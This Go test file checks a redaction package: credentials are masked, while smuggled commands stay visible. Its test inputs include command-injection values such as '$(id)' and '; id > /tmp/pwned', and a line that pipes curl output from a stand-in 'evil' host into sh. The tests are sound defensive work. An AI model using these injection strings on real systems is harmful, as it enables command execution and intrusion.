package redact

import (
	"strings"
	"testing"
)

// The command of a definition stays visible, whatever names and forms its author chooses.
func TestLiteral_HidesNoCommand(t *testing.T) {
	for _, tt := range []struct {
		use  Use
		text string
	}{
		{Argument, `GITHUB_TOKEN=x; id > /tmp/pwned; exec cat`},
		{Argument, `GITHUB_TOKEN=x$IFS;id`},
		{Argument, `API_KEY=$(id)`},
		{Argument, "API_KEY=`id`"},
		{Argument, `--token=/tmp/evil.sh`},
		{Argument, `--token-helper=evil-helper2`},
		{Argument, `--password=../evil`},
		{Argument, `x://a;curl${IFS}evil|sh;:b|sh@`},
		{Argument, `postgres://a:b$(id)@db/x`},
		{Argument, `https://h/?token=$(id)`},
		{Argument, `npm-malicious-package-v2`},
		{Argument, `key-a1b2c3d4e5f6g7h8i9j0`},
		{Argument, `sk-services.evil-domain1.example.com`},
		{Argument, "-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----"},
		{Argument, "/tmp/a1B2c3D4e5F6g7H8i9J0"},
		{Address, "https://a1B2c3D4e5F6g7H8i9J0.evil.example/mcp"},
		{FlagValue, `x; id`},
		{FlagValue, `evil-program`},
		{FlagValue, `evil2.js`},
		{FlagValue, `./evil2`},
		{FlagValue, `https://evil.example/1`},
		{Variable, `x; id`},
		{Variable, `/tmp/evil2`},
		{Variable, `conf/evil2`},
		{FlagValue, `conf/evil2`},
		{Argument, `AWS_CREDENTIAL=conf/evil2`},
	} {
		if got := Literal(tt.use, tt.text); got != tt.text {
			t.Errorf("Literal(%d, %q) = %q", tt.use, tt.text, got)
		}
	}
}

func TestLiteral_MasksCredentials(t *testing.T) {
	key := "ghp_" + strings.Repeat("a1B2", 9)
	for _, tt := range []struct {
		use        Use
		text, want string
	}{
		{Argument, "--api-key=hunter2", "--api-key=••••(7 characters)"},
		{Argument, "DB_TOKEN=hunter2", "DB_TOKEN=••••(7 characters)"},
		{Argument, key, "••••(40 characters)"},
		{Argument, "x " + key + " y", "x ••••(40 characters) y"},
		{Argument, "postgres://app:hunter2@db/x", "postgres://app:••••(7 characters)@db/x"},
		{Argument, "https://h/?team=blue&api_key=hunter2#f", "https://h/?team=blue&api_key=••••(7 characters)#f"},
		{Address, "https://h.example/s/a1B2c3D4e5F6g7H8i9J0/mcp", "https://h.example/s/••••(20 characters)/mcp"},
		{Argument, "AKIAIOSFODNN7EXAMPLE", "••••(20 characters)"},
		{FlagValue, "hunter2", "••••(7 characters)"},
		{Variable, "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "••••(40 characters)"},
		{Variable, "swordfish", "••••(9 characters)"},
		{Credential, "a=b; c=d", "••••(8 characters)"},
	} {
		if got := Literal(tt.use, tt.text); got != tt.want {
			t.Errorf("Literal(%d, %q) = %q, want %q", tt.use, tt.text, got, tt.want)
		}
	}
}

// Recordings mask credentials that a server quotes in text.
func TestMask_CredentialsInText(t *testing.T) {
	body := strings.Repeat("MIIEvQIBADANBgkqhkiG9w0BAQEF\n", 3)
	for _, tt := range []struct{ name, in, secret string }{
		{"private key", "-----BEGIN PRIVATE KEY-----\n" + body + "-----END PRIVATE KEY-----", "MIIE"},
		{"encrypted key", "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\n" + body + "-----END RSA PRIVATE KEY-----", "MIIE"},
		{"cut key", "x -----BEGIN OPENSSH PRIVATE KEY-----\n" + body, "MIIE"},
		{"password in an address", "dial postgres://app:hunter2@db/x", "hunter2"},
		{"parameter", "see https://h/cb?x=1&access_token=hunter2&y=2", "hunter2"},
		{"fragment", "see https://h/#id_token=hunter2", "hunter2"},
		{"signed address", "https://b.example/o?X-Amz-Signature=0a1b2c3d4e5f", "0a1b2c"},
		{"bearer", "curl -H 'Authorization: Bearer hunter2hunter2'", "hunter2"},
		{"basic", "Authorization: Basic dXNlcjpodW50ZXIy", "dXNl"},
		{"web token", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhIn0.c2lnbmF0dXJl", "c2lnbmF0"},
	} {
		got := Mask("text", tt.in, nil)
		if strings.Contains(got, tt.secret) || !strings.Contains(got, Masked) {
			t.Errorf("%s: Mask(%q) = %q", tt.name, tt.in, got)
		}
	}
	for _, plain := range []string{"Bearer authentication required", `Bearer resource_metadata="https://h/x"`, "https://h/?q=token&design=1", "Basic authentication"} {
		if got := Mask("text", plain, nil); got != plain {
			t.Errorf("Mask(%q) = %q", plain, got)
		}
	}
}
